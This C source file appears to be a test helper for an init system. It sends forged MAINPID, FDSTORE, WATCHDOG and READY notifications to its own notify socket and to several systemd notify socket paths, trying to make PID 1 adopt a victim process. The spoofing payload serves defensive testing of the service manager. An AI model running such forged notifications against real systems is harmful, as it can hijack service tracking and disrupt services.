/* A payload that tries to make PID 1 take a foreign process for its own, by every socket that it
 * can name: MAINPID= of a victim, more descriptors to keep, a watchdog of no time.
 *
 *     notify-attack VICTIM-PID SECONDS
 *
 * Prints one line a socket, sleeps, ends with 0. */
#include "base/macro.h"

#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>

static void attack(const char *socket_path, const char *victim)
{
        struct sockaddr_un address = { .sun_family = AF_UNIX };
        char text[256];
        size_t length = strlen(socket_path);
        ssize_t n;
        int fd;

        if (length >= sizeof(address.sun_path))
                return;
        memcpy(address.sun_path, socket_path, length);
        if (address.sun_path[0] == '@')
                address.sun_path[0] = '\0';
        fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
        (void) snprintf(text, sizeof(text),
                "MAINPID=%s\nMAINPIDFDID=1\nFDSTORE=1\nBUSERROR=org.x\nWATCHDOG_USEC=1\nREADY=1",
                victim);
        n = fd < 0 ? -1
                   : sendto(fd, text, strlen(text), MSG_NOSIGNAL, (struct sockaddr *) &address,
                             (socklen_t) (offsetof(struct sockaddr_un, sun_path) + length));
        printf("%s: %s\n", socket_path, n < 0 ? strerror(errno) : "sent");
        if (fd >= 0)
                (void) close(fd);
}

static void on_term(int signal_number)
{
        _exit(128 + signal_number);
}

int main(int argc, char **argv)
{
        const char *own = getenv("NOTIFY_SOCKET");

        if (argc != 3) {
                fprintf(stderr, "usage: notify-attack VICTIM-PID SECONDS\n");
                return 2;
        }
        (void) signal(SIGTERM, on_term);
        (void) setvbuf(stdout, NULL, _IOLBF, 0);
        if (own)
                attack(own, argv[1]);
        attack("/run/systemd/notify", argv[1]);
        attack("/run/notify", argv[1]);
        attack("@/org/freedesktop/systemd1/notify", argv[1]);
        (void) sleep((unsigned) atoi(argv[2]));
        return 0;
}
